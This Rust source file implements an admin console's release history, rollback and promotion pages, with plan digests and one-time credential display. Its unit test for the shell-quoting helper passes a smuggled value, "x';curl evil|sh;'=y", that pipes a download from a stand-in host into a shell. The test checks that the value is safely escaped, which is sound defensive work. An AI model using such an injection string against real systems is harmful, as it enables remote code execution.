//! A zone's releases (who, when, from what, what changed), the plan of a rollback to one of them,
//! and the plan of promoting another zone of the project into this one, with its go-live check;
//! either plan applied as the zone's next release, with the credentials it mints shown once. The
//! form carries a digest of the plan shown, so what is applied is what the operator read.

use askama::Template;
use axum::extract::rejection::QueryRejection;
use axum::extract::{Path, Query, State};
use axum::http::StatusCode;
use serde::Deserialize;

use super::pages::{Chrome, ConsoleError, ConsoleResult, refused_if, render, timestamp};
use super::session::{ConsoleZone, ZoneForm};
use super::zones::message_of;
use super::{confirm_notice, confirmed, zone_chrome};
use crate::crypto::secrets;
use crate::http::AppState;
use crate::model::EnvKind;
use crate::oidc::params::ParamBag;
use crate::promotion::UriMap;
use crate::service::Error;
use crate::service::admin::configuration::ConfigurationPlan;
use crate::service::admin::releases::{AppliedRelease, ReleaseSource};

struct ReleaseRow {
    number: i64,
    created: String,
    actor: String,
    source: String,
    changes: String,
    plan_href: String,
}

#[derive(Template)]
#[template(path = "console/releases.html")]
struct ReleasesPage {
    chrome: Chrome,
    rows: Vec<ReleaseRow>,
    /// The project's other zones, to promote from.
    sources: Vec<String>,
    action: String,
}

/// `GET …/releases`
pub async fn list(State(state): State<AppState>, zone: ConsoleZone) -> ConsoleResult {
    let chrome = zone_chrome(&state, &zone, "releases").await?;
    let base = format!("/console/{}/releases", zone.environment.slug());
    let releases = state
        .configuration()
        .releases(&zone.environment, zone.caller())
        .await?;
    let rows = releases
        .into_iter()
        .map(|release| ReleaseRow {
            number: release.number,
            created: timestamp(release.created_at),
            plan_href: format!("{base}/{}/rollback", release.number),
            changes: serde_json::to_string_pretty(&release.changes).unwrap_or_default(),
            actor: release.actor,
            source: release.source,
        })
        .collect();
    let sources = state
        .environments()
        .list(Some(&zone.environment.project), zone.caller())
        .await?
        .into_iter()
        .filter(|other| other.id != zone.environment.id)
        .map(|other| other.name)
        .collect();
    let page = ReleasesPage {
        chrome,
        rows,
        sources,
        action: format!("{base}/promote"),
    };
    Ok(render(StatusCode::OK, &page))
}

struct CheckRow {
    name: &'static str,
    passed: bool,
    detail: String,
}

#[derive(Template)]
#[template(path = "console/plan.html")]
struct PlanPage {
    chrome: Chrome,
    title: String,
    changes: String,
    checks: Vec<CheckRow>,
    warnings: Vec<String>,
    command: String,
    back: String,
    notice: Option<String>,
    /// Where the apply form posts; the hidden fields that name the plan again.
    action: String,
    hidden: Vec<(&'static str, String)>,
    digest: String,
    /// Nothing would change: no apply form.
    empty: bool,
    live: bool,
    slug: String,
}

/// What a plan page shows, and what its apply form repeats.
struct PlanShown {
    title: String,
    command: String,
    action: String,
    hidden: Vec<(&'static str, String)>,
}

/// A digest of the plan as shown: the release it builds on and every change.
fn plan_digest(plan: &ConfigurationPlan) -> String {
    secrets::digest(&format!("{}\n{}", plan.base_release, plan.plan.render()))
}

async fn plan_page(
    state: &AppState,
    zone: &ConsoleZone,
    plan: ConfigurationPlan,
    shown: PlanShown,
    notice: Option<String>,
) -> ConsoleResult {
    let chrome = zone_chrome(state, zone, "releases").await?;
    let status = refused_if(&notice);
    let page = PlanPage {
        chrome,
        title: shown.title,
        changes: plan.plan.render(),
        digest: plan_digest(&plan),
        empty: plan.plan.is_empty(),
        checks: plan
            .checks
            .into_iter()
            .map(|check| CheckRow {
                name: check.name,
                passed: check.passed,
                detail: check.detail,
            })
            .collect(),
        warnings: plan.warnings,
        command: shown.command,
        back: format!("/console/{}/releases", zone.environment.slug()),
        notice,
        action: shown.action,
        hidden: shown.hidden,
        live: zone.environment.kind == EnvKind::Live,
        slug: zone.environment.slug(),
    };
    Ok(render(status, &page))
}

struct CredentialRow {
    kind: &'static str,
    name: String,
    id: String,
    secret: String,
    /// The element id its copy button names.
    element: String,
}

#[derive(Template)]
#[template(path = "console/applied.html")]
struct AppliedPage {
    chrome: Chrome,
    release: Option<i64>,
    changes: String,
    accepted: Vec<String>,
    credentials: Vec<CredentialRow>,
    back: String,
}

/// Applies `planned` if the form confirms it, names the plan shown, and accepts every failing
/// check it must; the plan again with what is missing otherwise.
async fn apply_plan(
    state: &AppState,
    (zone, fields): (&ConsoleZone, &ParamBag),
    planned: ConfigurationPlan,
    (source, shown): (ReleaseSource, PlanShown),
) -> ConsoleResult {
    let sent_digest = fields.get("plan").ok().flatten().unwrap_or("");
    if sent_digest != plan_digest(&planned) {
        let notice = "The plan changed since it was shown (another change got in): read it again \
                      before applying."
            .to_string();
        return plan_page(state, zone, planned, shown, Some(notice)).await;
    }
    if !confirmed(zone, fields) {
        let notice = Some(confirm_notice(zone));
        return plan_page(state, zone, planned, shown, notice).await;
    }
    let accept: Vec<String> = planned
        .checks
        .iter()
        .filter(|check| !check.passed)
        .filter(|check| {
            let field = format!("accept_{}", check.name);
            fields.get(&field).ok().flatten().is_some()
        })
        .map(|check| check.name.to_string())
        .collect();
    let applied = state
        .configuration()
        .apply(
            &zone.environment,
            planned.clone(),
            (source, &accept),
            zone.caller(),
            zone.now,
        )
        .await;
    match applied {
        Ok(applied) => applied_page(state, zone, applied).await,
        Err(error @ (Error::Invalid(_) | Error::Superseded(_) | Error::Conflict)) => {
            let notice = Some(message_of(&error));
            plan_page(state, zone, planned, shown, notice).await
        }
        Err(error) => Err(error.into()),
    }
}

async fn applied_page(
    state: &AppState,
    zone: &ConsoleZone,
    applied: AppliedRelease,
) -> ConsoleResult {
    let chrome = zone_chrome(state, zone, "releases").await?;
    let page = AppliedPage {
        chrome,
        release: applied.release,
        changes: applied.plan.render(),
        accepted: applied.accepted,
        credentials: applied
            .credentials
            .into_iter()
            .enumerate()
            .map(|(index, credential)| CredentialRow {
                kind: credential.kind,
                name: credential.name,
                id: credential.id,
                secret: credential.secret.expose().to_string(),
                element: format!("credential-{index}"),
            })
            .collect(),
        back: format!("/console/{}/releases", zone.environment.slug()),
    };
    Ok(render(StatusCode::OK, &page))
}

#[derive(Deserialize)]
pub struct ReleasePath {
    number: i64,
}

fn rollback_shown(zone: &ConsoleZone, number: i64) -> PlanShown {
    let slug = zone.environment.slug();
    PlanShown {
        title: format!("Rolling {slug} back to release {number}"),
        command: format!("airlock env rollback {slug} --to {number}"),
        action: format!("/console/{slug}/releases/{number}/rollback"),
        hidden: Vec::new(),
    }
}

/// `GET …/releases/{number}/rollback`: what restoring that release would change.
pub async fn rollback_plan(
    State(state): State<AppState>,
    zone: ConsoleZone,
    Path(path): Path<ReleasePath>,
) -> ConsoleResult {
    let plan = state
        .configuration()
        .plan_rollback(&zone.environment, path.number, zone.caller())
        .await?;
    let shown = rollback_shown(&zone, path.number);
    plan_page(&state, &zone, plan, shown, None).await
}

/// `POST …/releases/{number}/rollback`: that release's configuration, as the next release.
pub async fn rollback(
    State(state): State<AppState>,
    Path(path): Path<ReleasePath>,
    form: ZoneForm,
) -> ConsoleResult {
    let ZoneForm { zone, fields } = form;
    let plan = state
        .configuration()
        .plan_rollback(&zone.environment, path.number, zone.caller())
        .await?;
    let shown = rollback_shown(&zone, path.number);
    let source = ReleaseSource::Rollback { to: path.number };
    apply_plan(&state, (&zone, &fields), plan, (source, shown)).await
}

/// `text` as one shell word, quoted unless it is plainly safe: the page offers the command for
/// copying, and its map rules come from the query string.
fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._:=@%+-,".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_string();
    }
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[derive(Deserialize)]
pub struct PromoteQuery {
    from: String,
    /// `FROM=TO` rules, one per line.
    map: Option<String>,
}

/// The plan of promoting `query.from` into the zone, and how the page shows it.
async fn promotion(
    state: &AppState,
    zone: &ConsoleZone,
    query: PromoteQuery,
) -> Result<(ConfigurationPlan, PlanShown, ReleaseSource), ConsoleError> {
    let map_text = query.map.unwrap_or_default();
    let maps = map_text
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .map(UriMap::parse)
        .collect::<Result<Vec<_>, _>>()
        .map_err(Error::Invalid)?;
    let source = state
        .console_sessions()
        .environment(
            &zone.operator.session,
            (&zone.environment.project, &query.from),
            zone.now,
        )
        .await?;
    let plan = state
        .configuration()
        .plan_promotion((&source, &zone.environment), &maps, zone.caller())
        .await?;
    let (from, into) = (source.slug(), zone.environment.slug());
    let map_flags: String = maps
        .iter()
        .map(|map| format!(" --map {}", shell_word(&format!("{}={}", map.from, map.to))))
        .collect();
    let shown = PlanShown {
        title: format!("Promoting {from} into {into}"),
        command: format!("airlock promote {from} {into}{map_flags} --apply"),
        action: format!("/console/{into}/releases/promote"),
        hidden: vec![("from", query.from), ("map", map_text)],
    };
    Ok((plan, shown, ReleaseSource::Promotion { from }))
}

/// `GET …/releases/promote?from=sandbox&map=…`: what promoting `from` into this zone would change.
pub async fn promotion_plan(
    State(state): State<AppState>,
    zone: ConsoleZone,
    query: Result<Query<PromoteQuery>, QueryRejection>,
) -> ConsoleResult {
    let Query(query) = query.map_err(|_| ConsoleError::status(StatusCode::BAD_REQUEST))?;
    let (plan, shown, _) = promotion(&state, &zone, query).await?;
    plan_page(&state, &zone, plan, shown, None).await
}

/// `POST …/releases/promote` (`from`, `map`): the promotion applied as the next release.
pub async fn promote(State(state): State<AppState>, form: ZoneForm) -> ConsoleResult {
    let ZoneForm { zone, fields } = form;
    let text = |name: &str| fields.get(name).ok().flatten().map(str::to_string);
    let Some(from) = text("from") else {
        return Err(ConsoleError::status(StatusCode::BAD_REQUEST));
    };
    let query = PromoteQuery {
        from,
        map: text("map"),
    };
    let (plan, shown, source) = promotion(&state, &zone, query).await?;
    apply_plan(&state, (&zone, &fields), plan, (source, shown)).await
}

#[cfg(test)]
mod tests {
    use super::shell_word;

    #[test]
    fn map_rules_are_one_shell_word_each() {
        assert_eq!(
            shell_word("http://localhost:3000=https://app.acme.com"),
            "http://localhost:3000=https://app.acme.com"
        );
        assert_eq!(shell_word("a b=c"), "'a b=c'");
        assert_eq!(
            shell_word("x';curl evil|sh;'=y"),
            "'x'\\'';curl evil|sh;'\\''=y'"
        );
        assert_eq!(shell_word(""), "''");
    }
}
